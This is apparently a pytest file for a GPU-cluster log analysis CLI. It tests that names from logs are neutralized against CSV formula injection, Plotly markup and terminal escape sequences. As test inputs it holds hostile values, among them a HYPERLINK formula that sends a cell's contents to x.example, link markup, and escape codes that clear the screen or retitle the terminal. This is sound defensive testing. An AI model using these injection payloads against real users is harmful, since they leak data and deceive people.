"""Output that runs code elsewhere (issue #26, item 6): names from the logs are data in every
CSV, plain text in every figure, and printable wherever gca prints them.

The store (tests/hostile_names.py) holds job ids, users and VCs that start a spreadsheet
formula (OWASP's `= + - @`, tab, CR, LF) or are Plotly markup, and a job log whose file name
holds an escape sequence, a tab and a newline. The expectations are OWASP's rule and the
names themselves, never gca's own output.
"""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import polars as pl
import pytest
from typer.testing import CliRunner

from gpucluster_analysis.cli import app
from gpucluster_analysis.errors import ExitCode
from gpucluster_analysis.report.build import Written, build_report, csv_text
from tests import hostile_names as hostile

runner = CliRunner()
# OWASP "CSV Injection": a cell starting with one of these is run by spreadsheets.
OWASP_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
# Where the hostile names must show up neutralized (the CSVs that carry job, user or VC names).
CSVS_WITH_NAMES = {
    "jobs.csv",
    "quotas.csv",
    "queue_delay_by_vc.csv",
    "queue_delay_cdf_by_vc.csv",
    "wait_causes_by_vc.csv",
    "failure_repeaters.csv",
}


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return hostile.build_store(tmp_path_factory.mktemp("hostile"))


@pytest.fixture(scope="module")
def safe(store: Path) -> Written:
    return build_report(store, store.parent / "safe")


@pytest.fixture(scope="module")
def raw(store: Path) -> Path:
    out = store.parent / "raw"
    result = runner.invoke(app, ["report", "--db", str(store), "--out", str(out), "--raw-csv", "--quiet"])
    assert result.exit_code == 0, result.output
    return out


def _cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_every_text_cell_of_every_csv_is_safe_for_spreadsheets(safe: Written, raw: Path) -> None:
    """Every CSV the report writes, every cell: no text cell starts a formula, each differs
    from its --raw-csv text only by OWASP's leading quote, and a column of numbers is the
    same bytes. A CSV added later is checked too.

    Reproduction (before: the cells started with = and @, and a spreadsheet ran them):
        echo '[{"jobid": "=1+1_0", "user": "@SUM(1+1)", "vc": "=HYPERLINK(\"http://x.example/?\"&A1,\"vc\")",
               "status": "Pass", "submitted_time": "2017-11-03 00:05:00", "attempts": [{"start_time":
               "2017-11-03 01:10:00", "end_time": "2017-11-03 03:00:00",
               "detail": [{"ip": "m1", "gpus": ["gpu0"]}]}]}]' \\
            > cluster_job_log
        gca ingest cluster_job_log --db s.duckdb && gca report --db s.duckdb --out r
        grep -h '^=\\|,=\\|,@' r/jobs.csv r/quotas.csv r/queue_delay_by_vc.csv r/wait_causes_by_vc.csv
    """
    written = sorted(p.name for p in safe.out_dir.glob("*.csv"))
    assert written == sorted(p.name for p in safe.tables) == sorted(p.name for p in raw.glob("*.csv"))
    assert len(written) >= 50
    neutralized: dict[str, int] = {}
    for name in written:
        safe_rows, raw_rows = _cells(safe.out_dir / name), _cells(raw / name)
        assert safe_rows[0] == raw_rows[0] and len(safe_rows) == len(raw_rows), name
        assert all(len(row) == len(safe_rows[0]) for row in safe_rows + raw_rows), name
        for column, header in enumerate(raw_rows[0]):
            pairs = [(s[column], r[column]) for s, r in zip(safe_rows[1:], raw_rows[1:], strict=True)]
            if all(r == "" or _is_number(r) for _, r in pairs):  # a column of numbers: the same bytes
                assert [s for s, _ in pairs] == [r for _, r in pairs], (name, header)
                continue
            for s, r in pairs:
                # no text cell starts a formula (a number does: a spreadsheet reads -3.5 as one) ...
                assert not s.startswith(OWASP_STARTS) or _is_number(s), (name, header, s)
                # ... and each is the raw text, behind OWASP's quote where that started like one
                if r.startswith(OWASP_STARTS):
                    assert s == "'" + r, (name, header, r, s)
                    neutralized[name] = neutralized.get(name, 0) + (not _is_number(r))
                else:
                    assert s == r, (name, header, r, s)
    assert CSVS_WITH_NAMES <= set(neutralized), neutralized
    # every job's job id, user and VC of the store's 24 hostile jobs, each once per job in jobs.csv
    expected = sum(
        1
        for j in hostile.jobs()
        for v in (j["jobid"], j["user"], j["vc"])
        if str(v).startswith(OWASP_STARTS) and not _is_number(str(v))
    )
    assert neutralized["jobs.csv"] == expected


def test_raw_csv_gives_the_exact_text(raw: Path) -> None:
    """`gca report --raw-csv` writes the names as they are, control characters and all.

    Reproduction (a pipeline that needs the scheduler's names back):
        gca report --db s.duckdb --out r --raw-csv
        python -c "import csv; print(next(csv.DictReader(open('r/jobs.csv', newline='')))['user'])"
    """
    rows = csv.DictReader((raw / "jobs.csv").open(newline="", encoding="utf-8"))
    got = {r["job_id"]: (r["user"], r["vc"]) for r in rows}
    expected = {str(j["jobid"]): (j["user"], j["vc"]) for j in hostile.jobs()}
    assert {k: got[k] for k in expected} == expected
    assert got["plain_job0"] == ("plain_user", "plain_vc")


def test_numbers_are_never_touched_and_text_follows_owasp() -> None:
    """Neutralizing goes by column type: a negative number stays a number, a text cell that
    starts like a formula gets OWASP's quote (their two examples give their escaped output).

    Reproduction:
        python -c "import polars as pl; from gpucluster_analysis.report.build import csv_text; \\
            print(csv_text(pl.DataFrame({'name': ['=1+2', '-3.5'], 'delta': [-3.5, -0.25], 'n': [-2, 0]})))"
    """
    df = pl.DataFrame(
        {
            "name": ["=1+2", "-3.5", "ok", "a;b", "", None],
            "delta": [-3.5, -0.25, 2.0, -1e-7, None, 1.5],
            "n": [-2, 0, 5, -7, 1, None],
            "kind": pl.Series(["-x", "@y", "z", "+1", "\tw", None], dtype=pl.Categorical),
        }
    )
    assert csv_text(df).splitlines() == [
        "name,delta,n,kind",
        '"\'=1+2",-3.5,-2,"\'-x"',
        '"\'-3.5",-0.25,0,"\'@y"',
        "ok,2,5,z",
        '"a;b",-0.0000001,-7,"\'+1"',  # a semicolon: quoted, where some spreadsheets split a line
        '"",,1,"\'\tw"',  # an empty string stays quoted, told from a missing value
        ",1.5,,",
    ]
    assert csv_text(df, raw=True).splitlines()[1:3] == ["=1+2,-3.5,-2,-x", "-3.5,-0.25,0,@y"]
    owasp = pl.DataFrame({"cell": ['=1+2";=1+2', "=1+2'\" ;,=1+2"]})
    assert csv_text(owasp).splitlines()[1:] == ['"\'=1+2"";=1+2"', '"\'=1+2\'"" ;,=1+2"']


def _figures(page: str) -> dict[str, tuple[list[dict], dict]]:
    """Each figure's data and layout as the page embeds them (Plotly.newPlot(id, data, layout, config))."""
    decoder = json.JSONDecoder()
    figures = {}
    for call in re.finditer(r'Plotly\.newPlot\(\s*"([^"]+)",\s*', page):
        data, end = decoder.raw_decode(page, call.end())
        layout, _ = decoder.raw_decode(page, re.compile(r"\s*,\s*").match(page, end).end())
        figures[call.group(1)] = (data, layout)
    return figures


def _strings(value: object) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, (list, tuple)):
        return [s for v in value for s in _strings(v)]
    return []


def test_names_are_plain_text_in_every_figure(safe: Written) -> None:
    """No figure's JSON holds markup from the data: Plotly renders <a href>, <b>, <br>, <span
    style> in labels, legends and hover text, and fills %{...} in hover templates. The names
    are there as entities, which Plotly shows as the characters themselves.

    Reproduction (before: the VC was a live link in the chart's legend and axis, and `%{y}`
    in a VC name was filled in by the hover template):
        echo '[{"jobid": "j1", "user": "u", "vc": "<a href=\"http://x.example\">v</a>", ...}]' > cluster_job_log
        gca ingest cluster_job_log --db s.duckdb && gca report --db s.duckdb --out r
        grep -o '"name":"<a href=[^,]*' r/index.html
    """
    figures = _figures(safe.html.read_text())
    assert len(figures) >= 12
    for div_id, figure in figures.items():
        texts = _strings(figure)
        assert any("<extra></extra>" in t for t in texts), div_id  # the walk reaches the templates
        for text in texts:
            # gca's own markup in hover templates and heatmap cells is all there is
            assert "<" not in re.sub(r"</?extra>|<br>", "", text), (div_id, text)

    def entities(name: str) -> str:  # how Plotly is given a name to show as it is
        return name.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("%", "&#37;")

    vcs = {entities(v) for v in hostile.VCS} | {"plain_vc"}  # plain_vc: the job beside the reject
    data, _ = figures["fig-queue-delay-cdf-by-vc"]
    assert sorted(trace["name"] for trace in data) == sorted(vcs)
    # the hover template begins with the name, its %{y} written as an entity: not a placeholder
    hover = {trace["name"]: trace["hovertemplate"] for trace in data}
    assert hover[entities("<b>x</b>%{y}")].startswith("&lt;b&gt;x&lt;/b&gt;&#37;{y}: %{y:.1%}")
    bars, _ = figures["fig-wait-causes-by-vc"]
    assert {x for trace in bars for x in trace["x"]} == vcs


def test_file_names_are_printable_in_the_html_tables(safe: Written) -> None:
    """The data-quality tables show a file name's escape sequence, tab and newline as escapes.

    Reproduction (before: the page held the raw ESC, tab and newline):
        f=$(printf 'cluster_job_log\\033[31m\\tred\\nline')
        echo '[{"jobid": "j", "vc": "v", "user": "u", "status": "Pass", "submitted_time": "2017-11-03 00:00:00",
               "attempts": [{"start_time": "None", "end_time": "None",
               "detail": [{"ip": "m1", "gpus": ["gpuX"]}]}]}]' > "$f"
        gca ingest "$f" --format philly_job_log --db s.duckdb && gca report --db s.duckdb --out r
        grep -c $'\\033' r/index.html
    """
    page = safe.html.read_text()
    assert "\x1b" not in page and "red\nline" not in page and "\tred" not in page
    rejects = re.search(r'<table id="table-rejects_by_file">.*?</table>', page, re.S)
    assert rejects is not None and f"/{hostile.HOSTILE_FILE_PRINTED}</td>" in rejects.group()


def test_ingest_prints_file_names_escaped(tmp_path: Path) -> None:
    """Warnings, the summary table and reject lines show a file name's control characters as
    escapes, and a name that looks like Rich markup as it is.

    Reproduction (before: the terminal turned red, and the tab and newline split the lines):
        mkdir d && printf 'x\\n' > d/$(printf 'notes\\033]0;pwned\\007[bold red]x:smile:.txt')
        cp cluster_job_log "d/$(printf 'cluster_job_log\\033[31m\\tred\\nline')"
        gca ingest d --db s.duckdb
    """
    hostile.write_inputs(tmp_path / "d")
    skipped = tmp_path / "d" / "notes\x1b]0;pwned\x07[bold red]x:smile:.txt"
    skipped.write_text("not a log\n")
    result = runner.invoke(app, ["ingest", str(tmp_path / "d"), "--db", str(tmp_path / "s.duckdb")])
    assert result.exit_code == ExitCode.OK, result.output
    err = result.stderr
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", err)  # nothing raw but newlines
    lines = err.splitlines()
    assert (
        f"gca: warning: skipped {tmp_path}/d/notes\\x1b]0;pwned\\x07[bold red]x:smile:.txt: not a format gca reads"
        in lines
    )
    # the summary table's row of that file: its name, format, status, rows, rejects (then seconds)
    assert [f"d/{hostile.HOSTILE_FILE_PRINTED}", "│", "philly_job_log", "│", "loaded", "│", "1", "│", "1", "│"] in [
        line.split()[:10] for line in lines
    ], err
    assert [line for line in lines if line.startswith("gca: rejected ")] == [
        f"gca: rejected {tmp_path}/d/{hostile.HOSTILE_FILE_PRINTED}:1: attempt 0: unreadable GPU name gpuX"
    ]


def test_errors_print_file_names_escaped(tmp_path: Path) -> None:
    """A one-line error names the file with its control characters escaped.

    Reproduction (before: the name cleared the screen):
        gca ingest "$(printf 'missing\\033[2J\\n.txt')" --db s.duckdb
    """
    result = runner.invoke(app, ["ingest", str(tmp_path / "missing\x1b[2J\n.txt"), "--db", str(tmp_path / "s.duckdb")])
    assert result.exit_code == ExitCode.USAGE
    assert "\x1b" not in result.stderr
    (line,) = [line for line in result.stderr.splitlines() if line]  # one line, whatever the name holds
    assert line.startswith(f"gca: error: {tmp_path}/missing\\x1b[2J\\n.txt")


def test_classify_prints_one_line_of_five_fields_per_file(tmp_path: Path) -> None:
    """`gca classify`: a tab or newline in a file name cannot forge a field or a line, an
    escape sequence in the log that the classifier's colour stripping leaves (ESC c, a terminal
    reset) cannot reach the terminal (an OSC 8 hyperlink is stripped with the colours); --json
    keeps the exact name.

    Reproduction (before: three lines, the first with six fields, and a live link):
        link='\\033]8;;http://x.example\\033\\\\here\\033]8;;\\033\\\\'
        printf "Traceback (most recent call last):\\nRuntimeError: CUDA out of memory. $link\\n" \\
            > "$(printf 'a\\tnone\\tuser\\nb.log')"
        gca classify a* --explain
    """
    log = tmp_path / "a\tnone\tuser\x1b[31m\nb.log"
    log.write_text(
        "Traceback (most recent call last):\n"
        "RuntimeError: CUDA out of memory. \x1bc\x1b]8;;http://x.example\x1b\\here\x1b]8;;\x1b\\\n"
    )
    result = runner.invoke(app, ["classify", str(log)])
    assert result.exit_code == 0, result.output
    (line,) = result.stdout.splitlines()
    path, reason, category, signature, line_no = line.split("\t")
    assert path == f"{tmp_path}/a\\tnone\\tuser\\x1b[31m\\nb.log"
    assert (reason, line_no) == ("cuda_oom", "2")
    explained = runner.invoke(app, ["classify", str(log), "--explain"]).stdout
    assert "\x1b" not in explained
    assert explained.splitlines()[1].endswith("winner: RuntimeError: CUDA out of memory. \\x1bchere")
    as_json = runner.invoke(app, ["classify", str(log), "--json"]).stdout
    assert "\x1b" not in as_json and json.loads(as_json)["path"] == str(log)


def test_report_prints_its_paths_escaped(store: Path, tmp_path: Path) -> None:
    """The report's summary (stdout) and progress (stderr) name the output directory printable.

    Reproduction:
        gca report --db s.duckdb --out "$(printf 'r\\033[31m')"
    """
    out = tmp_path / "r\x1b[31m"
    result = runner.invoke(app, ["report", "--db", str(store), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout and "\x1b" not in result.stderr
    assert result.stdout.splitlines()[0] == f"gca report: {tmp_path}/r\\x1b[31m/index.html"
    assert (out / "index.html").exists()


def test_console_renders_every_string_printable_and_without_markup() -> None:
    """The CLI's consoles (stderr, and the summary table on a terminal) escape control
    characters in every string they render, table cells and titles included, and read no
    Rich markup or emoji codes: the one place the print layer applies `printable`."""
    import io

    from rich.table import Table

    from gpucluster_analysis.cli._output import PrintableConsole

    buffer = io.StringIO()
    console = PrintableConsole(file=buffer, width=200)
    table = Table(title="in \x1b[2Jt")
    table.add_column("file")
    table.add_row("[bold]a\x1b[31mb\tc\u202ed:smile:")
    console.print(table)
    console.print("gca: x\ny\x9b", markup=True)
    out = buffer.getvalue()
    assert "in \\x1b[2Jt" in out and "[bold]a\\x1b[31mb\\tc\\u202ed:smile:" in out
    assert out.splitlines()[-1] == "gca: x\\ny\\x9b"
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", out)
